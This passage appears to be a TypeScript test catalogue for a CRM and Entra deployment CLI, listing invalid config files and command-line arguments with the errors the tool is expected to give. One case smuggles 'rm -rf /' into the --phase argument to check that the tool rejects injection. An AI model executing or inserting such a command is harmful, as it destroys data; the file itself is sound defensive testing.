    slug: 'timeout-too-short',
    input: 'deployment.webApi.timeoutSeconds = 1 (minimum 5)',
    names: 'deployment.webApi.timeoutSeconds',
    mutate: (d) => (d.deployment.webApi.timeoutSeconds = 1),
  },
  {
    slug: 'api-version',
    input: "deployment.webApi.apiVersion = '8.2'",
    names: 'deployment.webApi.apiVersion',
    mutate: (d) => (d.deployment.webApi.apiVersion = '8.2'),
  },
  {
    slug: 'page-size-zero',
    input: 'deployment.webApi.pageSize = 0',
    names: 'deployment.webApi.pageSize',
    mutate: (d) => (d.deployment.webApi.pageSize = 0),
  },
  {
    slug: 'servers-empty',
    input: 'deployment.servers = [] (no server)',
    names: 'deployment.servers',
    mutate: (d) => (d.deployment.servers = []),
  },
  {
    slug: 'servers-not-list',
    input: 'deployment.servers as a map instead of a list',
    names: 'deployment.servers',
    mutate: (d) => (d.deployment.servers = { CRMAPP01: ['web'] }),
  },
  {
    slug: 'runner-label',
    input: 'a runnerLabel with a space',
    names: 'deployment.servers.1.runnerLabel',
    mutate: (d) => (d.deployment.servers[1].runnerLabel = 'crm async'),
  },
  {
    slug: 'rebind-https-string',
    input: "deployment.iis.rebindHttps = 'yes' (a string)",
    names: 'deployment.iis.rebindHttps',
    mutate: (d) => (d.deployment.iis = { rebindHttps: 'yes' }),
  },
  {
    slug: 'site-name-empty',
    input: "deployment.iis.siteName = ''",
    names: 'deployment.iis.siteName',
    mutate: (d) => (d.deployment.iis = { siteName: '' }),
  },
  {
    slug: 'restart-services-number',
    input: 'deployment.restartServices = 1',
    names: 'deployment.restartServices',
    mutate: (d) => (d.deployment.restartServices = 1),
  },
  {
    slug: 'tenant-domain',
    input: 'tenant.domain = https://contoso.onmicrosoft.com (with scheme), without tenant.id',
    names: 'tenant.domain',
    mutate: (d) => ((d.tenant.domain = 'https://contoso.onmicrosoft.com'), delete d.tenant.id),
  },
  {
    slug: 'ensure-spn-string',
    input: "tenant.ensureDomainSpn = 'true' (a string)",
    names: 'tenant.ensureDomainSpn',
    mutate: (d) => (d.tenant.ensureDomainSpn = 'true'),
  },
  {
    slug: 'token-file-env',
    input: 'tenant.auth.tokenFileEnv = a file path, not a variable name',
    names: 'tenant.auth.tokenFileEnv',
    mutate: (d) =>
      (d.tenant.auth = {
        method: 'workload-identity',
        clientId: d.tenant.auth.clientId,
        tokenFileEnv: '/var/run/token',
      }),
  },
  {
    slug: 'certificate-env',
    input: 'tenant.auth.certificateEnv missing for client-certificate',
    names: 'tenant.auth.certificateEnv',
    mutate: (d) => (d.tenant.auth = { method: 'client-certificate', clientId: d.tenant.auth.clientId }),
  },
  {
    slug: 'graph-endpoint-http',
    input: 'tenant.endpoints.graph over http://',
    names: 'tenant.endpoints.graph',
    mutate: (d) => (d.tenant.endpoints.graph = d.tenant.endpoints.graph.replace('https:', 'http:')),
  },
  {
    slug: 'endpoints-unknown-key',
    input: 'tenant.endpoints.login (unknown key; it is authority)',
    names: 'tenant.endpoints',
    says: /unknown key login/,
    mutate: (d) => (d.tenant.endpoints.login = d.tenant.endpoints.authority),
  },
  {
    slug: 'certificate-host-wildcard',
    input: 'certificate.hosts entry crm.*.com (wildcard not leftmost)',
    names: 'certificate.hosts.0',
    mutate: (d) => (d.certificate.hosts = ['crm.*.com']),
  },
  {
    slug: 'min-days-too-large',
    input: 'certificate.minDaysRemaining = 99999',
    names: 'certificate.minDaysRemaining',
    mutate: (d) => (d.certificate.minDaysRemaining = 99999),
  },
  {
    slug: 'adfs-url-http',
    input: 'adfs.url over http://',
    names: 'adfs.url',
    mutate: (d) => (d.adfs.url = 'http://sts.contoso.com'),
  },
  {
    slug: 'adfs-outlook-app-string',
    input: "adfs.outlookApp = 'no'",
    names: 'adfs.outlookApp',
    mutate: (d) => (d.adfs.outlookApp = 'no'),
  },
  {
    slug: 'adfs-server-missing',
    input: 'adfs section without server',
    names: 'adfs.server',
    mutate: (d) => delete d.adfs.server,
  },
  {
    slug: 'profile-name-too-long',
    input: 'email.profile.name of 101 characters',
    names: 'email.profile.name',
    mutate: (d) => (d.email.profile = { name: 'E'.repeat(101) }),
  },
  {
    slug: 'incoming-location-http',
    input: 'email.profile.incomingServerLocation over http://',
    names: 'email.profile.incomingServerLocation',
    mutate: (d) =>
      (d.email.profile = {
        autodiscover: false,
        incomingServerLocation: 'http://outlook.office365.com/EWS/Exchange.asmx',
        outgoingServerLocation: 'https://outlook.office365.com/EWS/Exchange.asmx',
      }),
  },
  {
    slug: 'select-unknown',
    input: "email.mailboxes.select = 'everyone'",
    names: 'email.mailboxes.select',
    mutate: (d) => (d.email.mailboxes.select = 'everyone'),
  },
  {
    slug: 'approve-string',
    input: "email.mailboxes.approve = 'yes'",
    names: 'email.mailboxes.approve',
    mutate: (d) => (d.email.mailboxes.approve = 'yes'),
  },
  {
    slug: 'poll-timeout-too-long',
    input: 'email.mailboxes.poll.timeoutMinutes = 2000 (max 1440)',
    names: 'email.mailboxes.poll.timeoutMinutes',
    mutate: (d) => (d.email.mailboxes.poll.timeoutMinutes = 2000),
  },
  {
    slug: 'test-field-name',
    input: "email.mailboxes.testAndEnableFields.scheduled = 'Test Scheduled' (a display name)",
    names: 'email.mailboxes.testAndEnableFields.scheduled',
    mutate: (d) => (d.email.mailboxes.testAndEnableFields = { scheduled: 'Test Scheduled' }),
  },
  {
    slug: 'retire-string',
    input: "retire.expiredKeys = 'false' (a string)",
    names: 'retire.expiredKeys',
    mutate: (d) => (d.retire = { expiredKeys: 'false' }),
  },
  {
    slug: 'retire-unknown-key',
    input: 'retire.previousKeys (unknown key)',
    names: 'retire',
    says: /unknown key previousKeys/,
    mutate: (d) => (d.retire = { previousKeys: true }),
  },
  {
    slug: 'missing-email-mailboxes-typo',
    input: 'email.mailbox (singular, unknown key)',
    names: 'email',
    says: /unknown key mailbox/,
    mutate: (d) => ((d.email.mailbox = d.email.mailboxes), delete d.email.mailboxes),
  },
  {
    slug: 'missing-serviceaccounts',
    input: 'deployment.serviceAccounts missing',
    names: 'deployment.serviceAccounts',
    says: /required/,
    mutate: (d) => delete d.deployment.serviceAccounts,
  },
  {
    slug: 'tab-in-value',
    input: 'a tab character inside deployment.organization',
    names: 'deployment.organization',
    says: /control character/,
    mutate: (d) => (d.deployment.organization = 'con\ttoso'),
  },
  {
    slug: 'bom-in-key',
    input: 'a zero-width no-break space (U+FEFF) inside a key',
    names: 'deployment.\uFEFForganization',
    says: /U\+FEFF/,
    mutate: (d) => ((d.deployment['\uFEFForganization'] = d.deployment.organization), delete d.deployment.organization),
  },
  {
    slug: 'yaml-syntax',
    input: 'YAML that does not parse (an unclosed [)',
    names: '(file)',
    says: /not valid YAML/,
    text: () => 'deployment: [\n  url: x\n',
  },
  {
    slug: 'yaml-duplicate-key',
    input: 'a key given twice (tenant: twice)',
    names: '(file)',
    says: /not valid YAML/,
    text: (w) => `${stringify(w.configDocument())}tenant: {}\n`,
  },
  {
    slug: 'yaml-tabs',
    input: 'YAML indented with tabs',
    names: '(file)',
    says: /not valid YAML/,
    text: () => 'deployment:\n\turl: https://crm.contoso.com/contoso\n',
  },
  {
    slug: 'json-syntax',
    input: 'a .json config with a trailing comma',
    names: '(file)',
    says: /not valid JSON/,
    fileName: 'config.json',
    text: (w) => JSON.stringify(w.configDocument()).replace(/}$/, ',}'),
  },
  { slug: 'empty-file', input: 'an empty config file', names: '(file)', says: /is empty/, text: () => '\n' },
  {
    slug: 'top-level-list',
    input: 'a config that is a list, not a map',
    names: '(top level)',
    text: () => '- deployment\n- tenant\n',
  },
];

// Every phase of the build (configure-exchange included), so a new phase is in the rotation without a copy to update.
const anyPhase = (i: number) => PHASE_IDS[i % PHASE_IDS.length]!;

/** A config case through `config validate --json` (even) or `run --phase …` with the PFX (odd), rotating phases. */
function configInvocation(i: number, t: Tools, file: string): Invocation {
  if (i % 2 === 0) return { argv: ['config', 'validate', '--config', file, '--json'] };
  return { argv: ['run', '--config', file, '--phase', anyPhase(i), ...pfxArgs(t.world.pfxFile)] };
}
const configCommand = (i: number) => (i % 2 === 0 ? 'config validate --json' : `run --phase ${anyPhase(i)}`);

CONFIGS.forEach((c, i) => {
  CATALOGUE.push({
    id: `config/${c.slug}`,
    area: 'config',
    input: c.input,
    command: configCommand(i),
    names: c.names,
    exit: 1,
    ...(c.says ? { says: c.says } : {}),
    invoke: (t) => {
      const file = c.text
        ? t.file(c.fileName ?? `${c.slug}.yml`, c.text(t.world))
        : t.config(c.mutate ?? (() => undefined));
      return configInvocation(i, t, file);
    },
  });
});

BAD_CONFIGS.forEach(([name, mutate, path, message], i) => {
  CATALOGUE.push({
    id: `config-unit/${name.replace(/[^a-z0-9]+/gi, '-').toLowerCase()}`,
    area: 'config (unit catalogue)',
    input: name,
    command: configCommand(i + 1),
    names: path,
    exit: 1,
    says: message,
    source: 'test/unit/config/bad-configs.ts',
    invoke: (t) => configInvocation(i + 1, t, t.config(mutate)),
  });
});

INJECTION_CONFIGS.forEach((c) => {
  CATALOGUE.push({
    id: `injection/config-${c.slug}`,
    area: 'injection',
    input: c.input,
    command: `run --phase ${c.phase}`,
    names: c.names,
    exit: 1,
    invoke: (t) => ({
      argv: [
        'run',
        '--config',
        t.config(c.mutate),
        '--phase',
        c.phase,
        ...pfxArgs(t.world.pfxFile),
        ...(c.phase === 'configure-adfs' ? ['--set', 'server=ADFS01'] : []),
      ],
    }),
  });
});

INJECTION_SETS.forEach((c) => {
  CATALOGUE.push({
    id: `injection/set-${c.slug}`,
    area: 'injection',
    input: c.input,
    command: `run --phase ${c.phase} --set …`,
    names: c.names,
    exit: c.exit ?? 1,
    ...(c.says ? { says: c.says } : {}),
    invoke: (t) => {
      const config = c.domainConfig
        ? t.config((d) => {
            delete d.tenant.id;
            d.tenant.domain = 'contoso.onmicrosoft.com';
          })
        : t.world.configFile;
      return {
        argv: [
          'run',
          '--config',
          config,
          '--phase',
          c.phase,
          ...(c.withPfx ? pfxArgs(t.world.pfxFile) : []),
          ...c.set(t.world).flatMap((value) => ['--set', value]),
        ],
      };
    },
  });
});

CATALOGUE.push(
  {
    id: 'command-line/phase-statement',
    area: 'command line',
    input: '--phase "register-entra; rm -rf /"',
    command: 'run --phase …',
    names: '--phase',
    exit: 2,
    says: /is not a phase/,
    invoke: (t) => ({ argv: ['run', '--config', t.world.configFile, '--phase', 'register-entra; rm -rf /'] }),
  },
  {
    id: 'command-line/unknown-option',
    area: 'command line',
    input: 'an option the command does not have (--force)',
    command: 'run --phase retire-previous --force',
    names: '--force',
    exit: 2,
    invoke: (t) => ({ argv: ['run', '--config', t.world.configFile, '--phase', 'retire-previous', '--force'] }),
  },
  {
    id: 'command-line/two-certificates',
    area: 'command line',
    input: 'both --pfx and --pfx-base64-env',
    command: 'run --phase register-entra --pfx FILE --pfx-base64-env VAR',
    names: '--pfx-base64-env',
    exit: 2,
    says: /not both/,
    invoke: (t) => ({
      argv: [
        'run',
        '--config',
        t.world.configFile,
        '--phase',
        'register-entra',
        '--pfx',
        t.world.pfxFile,
        '--pfx-base64-env',
        PFX_BASE64_ENV,
      ],
    }),
  },
  {
    id: 'command-line/min-days',
    area: 'command line',
    input: '--min-days 14d',
    command: 'cert inspect --pfx FILE --min-days 14d',
    names: '--min-days',
    exit: 2,
    invoke: (t) => ({ argv: ['cert', 'inspect', '--pfx', t.world.pfxFile, '--min-days', '14d'] }),
  },
  {
    id: 'command-line/config-missing',
    area: 'command line',
    input: '--config naming a file that does not exist',
    command: 'plan --config FILE',
    names: '--config',
    exit: 1,
    says: /does not exist/,
    invoke: (t) => ({ argv: ['plan', '--config', join(t.world.dir, 'no-such-config.yml')] }),
  },
  {
    id: 'command-line/config-folder',
    area: 'command line',
    input: '--config naming a folder',
    command: 'config validate --config DIR',
    names: '--config',
    exit: 1,
    says: /is a folder/,
    invoke: (t) => ({ argv: ['config', 'validate', '--config', t.world.dir] }),
  },
);

/** Certificate problems that only warn (exit 0 by the public contract); listed in the docs with the errors. */
export const WARNINGS: WarningInput[] = [
  { id: 'certificate/self-signed', code: 'SELF_SIGNED', input: 'a self-signed certificate', pfx: certificates.renewal },
  {
    id: 'certificate/chain-incomplete',
    code: 'CHAIN_INCOMPLETE',
    input: 'a CA-issued certificate whose PFX lacks the issuing CA',
    pfx: certificates.chainIncomplete,
  },
  {
    id: 'certificate/no-server-auth',
    code: 'NO_SERVER_AUTH_EKU',
    input: 'a certificate whose EKU lacks Server Authentication',
    pfx: certificates.noServerAuth,
  },
];

/** A folder of its own for each case's files. */
export function caseFolder(world: World, id: string): string {
  const dir = join(world.dir, 'cases', id.replace(/[^a-z0-9-]+/gi, '_'));
  mkdirSync(dir, { recursive: true });
  return dir;
}

export function toolsFor(world: World, id: string): Tools {
  const dir = caseFolder(world, id);
  return {
    world,
    file: (name, content) => {
      const path = join(dir, name);
      writeFileSync(path, content, { mode: 0o600 });
      return path;
    },
    config: (mutate) => {
      const doc = world.configDocument();
      mutate(doc);
      return world.writeConfig(join('cases', dir.split('/').pop()!, 'config.yml'), doc);
    },
  };
}
